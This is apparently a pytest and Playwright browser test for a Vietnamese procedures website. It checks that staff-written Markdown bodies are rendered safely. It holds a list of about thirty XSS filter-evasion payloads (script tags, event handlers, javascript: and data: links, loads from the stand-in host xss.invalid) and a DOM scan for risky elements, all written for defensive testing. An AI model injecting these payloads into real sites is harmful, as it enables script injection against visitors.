"""Content safety in a real browser: OWASP filter-evasion payloads in procedure bodies never run.

The bodies (free Markdown after the front matter, and the English .en.md) are the one place where
staff write markup; procsite/source/body.py shows raw HTML as text and drops unsafe addresses. This builds
a site whose bodies hold classic payloads and opens every page that shows them in Chromium.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Route

from procsite.source.body import render_body
from procsite.source.loader import load_catalog
from tests.browser import serve
from tests.conftest import build_site

pytestmark = pytest.mark.browser
ROOT = Path(__file__).resolve().parent.parent
MARKER = "xss.invalid"
"""Every payload that would load something loads it from this host: a request to it is a failure."""

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.invalid/xss.js></SCRIPT>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<img src=x onerror=alert(3)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=http://xss.invalid/pixel.png>",
    "<svg/onload=alert(4)>",
    "<svg><script>alert(5)</script></svg>",
    '<iframe src="http://xss.invalid/frame"></iframe>',
    "<iframe src=javascript:alert(6)></iframe>",
    "<body onload=alert(7)>",
    '<a href="javascript:alert(8)">raw javascript link</a>',
    "<div onmouseover=alert(9) style=width:100%;height:100px>hover me</div>",
    "<object data=http://xss.invalid/x.swf></object><embed src=http://xss.invalid/y.swf>",
    '<meta http-equiv="refresh" content="0;url=http://xss.invalid/">',
    "<link rel=stylesheet href=http://xss.invalid/x.css>",
    "<style>@import 'http://xss.invalid/x.css';</style>",
    "<<script>alert(10)//<</script>",
    "<details open ontoggle=alert(11)>",
    "[markdown javascript link](javascript:alert(12))",
    "[mixed case](JaVaScRiPt:alert(13))",
    "[entity encoded](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(14))",
    "[hex entity colon](javascript&#x3A;alert(15))",
    "[tab inside](jav\tascript:alert(16))",
    "[data url](data:text/html;base64,PHNjcmlwdD5hbGVydCgxNyk8L3NjcmlwdD4=)",
    "![picture with javascript](javascript:alert(18))",
    "![remote picture](http://xss.invalid/pixel.png)",
    "![protocol-relative picture](//xss.invalid/pixel.png)",
    "![backslash picture](/\\xss.invalid/pixel.png)",
    "![data picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTkpPjwvc3ZnPg==)",
    "[reference link][evil]\n\n[evil]: javascript:alert(20)",
    '[title breakout](https://example.org "x\\" onmouseover=\\"alert(21)")',
    "`<script>alert(22)</script>` in code",
]


def with_body(procedures: Path, text: str, english: str | None = None) -> None:
    """The fixture's procedure with ``text`` as its Vietnamese body (and ``english`` as its English one)."""
    source = procedures / "ho-tich" / "khai-sinh.md"
    front = source.read_text(encoding="utf-8").split("\n---\n")[0]
    source.write_text(front + "\n---\n" + text, encoding="utf-8")
    if english is not None:
        (procedures / "ho-tich" / "khai-sinh.en.md").write_text(english, encoding="utf-8")


def refused_in_a_body(payload: str) -> list[str]:
    """The problems ``procsite check`` reports for a body that is this payload (empty: it is published)."""
    import shutil
    import tempfile

    procedures = Path(tempfile.mkdtemp()) / "procedures"
    shutil.copytree(ROOT / "tests" / "fixtures" / "minimal", procedures)
    with_body(procedures, payload + "\n")
    problems = load_catalog(procedures).report.text("en").splitlines()
    shutil.rmtree(procedures.parent)
    return problems


REFUSED = [p for p in PAYLOADS if refused_in_a_body(p)]
"""Links and pictures that lead nowhere on the site (javascript:, data:, another host's picture): check
refuses them, so they never reach a page; the rest is published, and must be harmless."""
PUBLISHED = [p for p in PAYLOADS if p not in REFUSED]


def body(lang: str) -> str:
    return f"Payloads ({lang}):\n\n" + "\n\n".join(PUBLISHED) + "\n"


@pytest.fixture(scope="module")
def xss_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The minimal fixture with every payload in the Vietnamese and the English body, built."""
    import shutil

    root = tmp_path_factory.mktemp("xss")
    procedures = root / "procedures"
    shutil.copytree(ROOT / "tests" / "fixtures" / "minimal", procedures)
    with_body(procedures, body("vi"), body("en"))
    site = root / "site"
    assert build_site(procedures, site) == 0
    return site


def test_payloads_reach_the_built_pages(xss_site: Path) -> None:
    """The test below is only meaningful if the payloads are on the pages, shown as text."""
    for page in (xss_site / "thu-tuc" / "khai-sinh", xss_site / "en" / "thu-tuc" / "khai-sinh"):
        html = (page / "index.html").read_text(encoding="utf-8")
        shown = html.split('class="ps-body">', 1)[1].split("</div>", 1)[0]
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown
        assert "&lt;img src=x onerror=alert(3)&gt;" in shown
        assert shown.count("<p>") >= len(PUBLISHED)
        for raw in ("<script>alert", "<iframe", "<svg", "<object", "<embed", "<details", 'src="http', '="javascript:'):
            assert raw not in shown, raw


def test_no_payload_runs_or_loads_anything_in_chromium(xss_site: Path, browser: Browser) -> None:
    pages = sorted(
        p.parent.relative_to(xss_site).as_posix()
        for p in xss_site.rglob("index.html")
        if "alert(1)" in p.read_text(encoding="utf-8")
    )
    assert "thu-tuc/khai-sinh" in pages and "en/thu-tuc/khai-sinh" in pages
    with serve(xss_site) as base_url:
        context = browser.new_context()
        marker_requests: list[str] = []

        def refuse(route: Route) -> None:
            marker_requests.append(route.request.url)
            route.abort()

        context.route(f"**/{MARKER}/**", refuse)
        context.route(f"http://{MARKER}/**", refuse)
        for path in pages:
            page = context.new_page()
            dialogs: list[str] = []
            errors: list[str] = []
            outside: list[str] = []
            page.on("dialog", lambda dialog, dialogs=dialogs: (dialogs.append(dialog.message), dialog.dismiss()))
            page.on("console", lambda m, errors=errors: errors.append(m.text) if m.type == "error" else None)
            page.on("pageerror", lambda e, errors=errors: errors.append(str(e)))
            page.on(
                "request",
                lambda r, outside=outside: None if r.url.startswith((base_url, "data:")) else outside.append(r.url),
            )
            page.set_default_timeout(5000)
            page.goto(base_url + path + "/")
            page.wait_for_load_state("networkidle")
            assert (dialogs, errors, outside) == ([], [], []), path
            exercise(page)
            assert (dialogs, errors, outside) == ([], [], []), path
            page.close()
        context.close()
    assert marker_requests == []


def exercise(page: Page) -> None:
    """Do what a citizen does with the body: hover and focus everything, and check what the DOM holds."""
    shown = page.locator(".ps-body").first
    assert "<script>alert(1)</script>" in shown.inner_text()
    for element in shown.locator("*").all():
        element.hover()
    risky = page.evaluate(
        """() => Array.from(document.querySelectorAll('.ps-body *')).flatMap(el => {
          const found = [];
          if (['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'SVG', 'STYLE', 'META', 'LINK', 'BODY', 'DETAILS']
              .includes(el.tagName.toUpperCase())) found.push(el.tagName);
          for (const attr of el.attributes) {
            if (/^on/i.test(attr.name) || attr.name === 'style') found.push(el.tagName + ' ' + attr.name);
          }
          // A link may lead to another site (followed only when clicked); a picture only loads from this one.
          if (el.href && !['http:', 'https:', 'mailto:', 'tel:'].includes(new URL(el.href).protocol)) {
            found.push(el.tagName + ' ' + el.href);
          }
          if (el.src && !el.src.startsWith(location.origin + '/')) found.push(el.tagName + ' ' + el.src);
          return found;
        })"""
    )
    assert risky == []
    links = shown.locator("a[href]")
    for i in range(links.count()):
        links.nth(i).focus()


def test_picture_and_link_addresses_are_judged_as_a_browser_reads_them() -> None:
    html = str(
        render_body(
            "![a](../bieu-mau/so-do.png) ![b](https://xss.invalid/b.png) ![c](/\\xss.invalid/c.png) "
            "[d](https://dichvucong.gov.vn) [e](tel:1022) [f](java&#x73;cript:alert(1)) [g](thu-tuc/khai-sinh/)"
        )
    )
    assert html == (
        '<p><img src="../bieu-mau/so-do.png" alt="a"> <img src="" alt="b"> <img src="" alt="c"> '
        '<a href="https://dichvucong.gov.vn">d</a> <a href="tel:1022">e</a> '
        '<a href="">f</a> <a href="thu-tuc/khai-sinh/">g</a></p>'
    )


@pytest.mark.parametrize("payload", REFUSED)
def test_a_link_or_picture_that_leads_nowhere_on_the_site_is_refused_at_its_line(payload: str) -> None:
    problems = refused_in_a_body(payload)
    assert len(problems) == 1
    assert problems[0].startswith("procedures/ho-tich/khai-sinh.md:")
    assert ": body text (body): expected a link to a page or file of this site" in problems[0]


def test_the_corpus_has_payloads_of_both_kinds() -> None:
    assert len(REFUSED) >= 10 and len(PUBLISHED) >= 20
